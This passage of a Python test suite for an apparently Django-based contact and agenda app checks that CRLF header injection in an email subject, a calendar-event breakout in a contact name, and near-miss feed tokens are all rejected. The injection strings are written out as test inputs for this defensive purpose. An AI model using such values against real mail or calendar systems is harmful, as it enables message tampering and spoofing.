            "subject": "Hello\r\nBcc: victim@example.com",
            "body": "Dear Ms. Okafor, would you have 20 minutes to talk about your work?",
            "action": "smtp",
            "override": "1",
        },
    )
    assert response.status_code == 302
    (message,) = smtp.messages
    assert message["Subject"] == "Hello Bcc: victim@example.com"
    assert message["Bcc"] is None and "victim" not in str(message["To"])


@tries(56)
def test_a_name_that_tries_to_end_a_calendar_event_stays_inside_it(dana_client, dana, network):
    contact = network["contact"]
    Contact.objects.filter(pk=contact.pk).update(
        name="Eve\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:injected"
    )
    meeting = network["meeting"]
    for url in [
        reverse("feed", args=[agenda.feed_token(dana)]),
        reverse("meeting-invitation", args=[meeting.pk]),
    ]:
        calendar = icalendar.Calendar.from_ical(dana_client.get(url).content)
        summaries = [str(event["SUMMARY"]) for event in calendar.walk("VEVENT")]
        assert "injected" not in summaries
        assert sum("END:VEVENT" in summary for summary in summaries) >= 1


@tries(57)
def test_only_the_exact_current_feed_token_opens_a_feed(client, dana, stranger, network):
    token = agenda.feed_token(dana)
    theirs = agenda.feed_token(stranger)
    assert client.get(reverse("feed", args=[token])).status_code == 200
    for wrong in [token[:-1], token[:8], token.upper(), token + "x", theirs[:8] + token[8:]]:
        if wrong != token:
            assert client.get(reverse("feed", args=[wrong])).status_code == 404
    agenda.regenerate_feed_token(dana)
    assert client.get(reverse("feed", args=[token])).status_code == 404


def test_every_bad_input_of_the_list_is_tried():
    assert sorted(set(range(1, 58)) - TRIED) == []
